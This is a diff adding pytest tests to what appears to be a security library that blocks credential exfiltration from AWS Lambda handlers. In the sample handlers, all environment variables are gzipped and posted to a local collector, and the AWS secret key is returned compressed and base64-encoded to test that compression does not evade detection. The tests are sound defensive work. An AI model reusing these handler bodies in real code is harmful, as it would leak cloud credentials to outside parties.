@@ -369,3 +369,38 @@ def test_the_token_in_a_returned_dict_outside_sigv4_is_blocked(answer, records) 
     with pytest.raises(RequestBlocked):
         handler({"upload": "a.png"}, LambdaContext())
     assert [r["rule"] for r in records.detections()] == ["credential_exfiltration.response"]
+
+
+def test_a_gzip_compressed_request_body_is_judged_decompressed(collector: LocalServer, records) -> None:
+    import gzip
+
+    @protect(mode="block")
+    def handler(event, context):
+        body = gzip.compress(json.dumps({"env": dict(os.environ)}).encode())
+        requests.post(f"{collector.url}/c", data=body, headers={"Content-Encoding": "gzip"}, timeout=TIMEOUT)
+        return {"statusCode": 200}
+
+    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
+    assert collector.requests == []
+    assert [r["rule"] for r in records.detections()] == ["credential_exfiltration.outbound"]
+
+
+def test_a_gzip_compressed_base64_response_is_judged_decompressed(records) -> None:
+    import gzip
+
+    @protect(mode="block")
+    def handler(event, context):
+        body = gzip.compress(json.dumps({"debug": os.environ["AWS_SECRET_ACCESS_KEY"]}).encode())
+        return {"statusCode": 200, "headers": {"Content-Encoding": "gzip"}, "isBase64Encoded": True,
+                "body": base64.b64encode(body).decode()}
+
+    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
+    benign = {"statusCode": 200, "headers": {"Content-Encoding": "gzip"}, "isBase64Encoded": True,
+              "body": base64.b64encode(gzip.compress(b'{"ok": true}')).decode()}
+
+    @protect(mode="block")
+    def benign_handler(event, context):
+        return benign
+
+    assert benign_handler(apigw_v1_event(), LambdaContext()) == benign
+    assert len(records.detections()) == 1
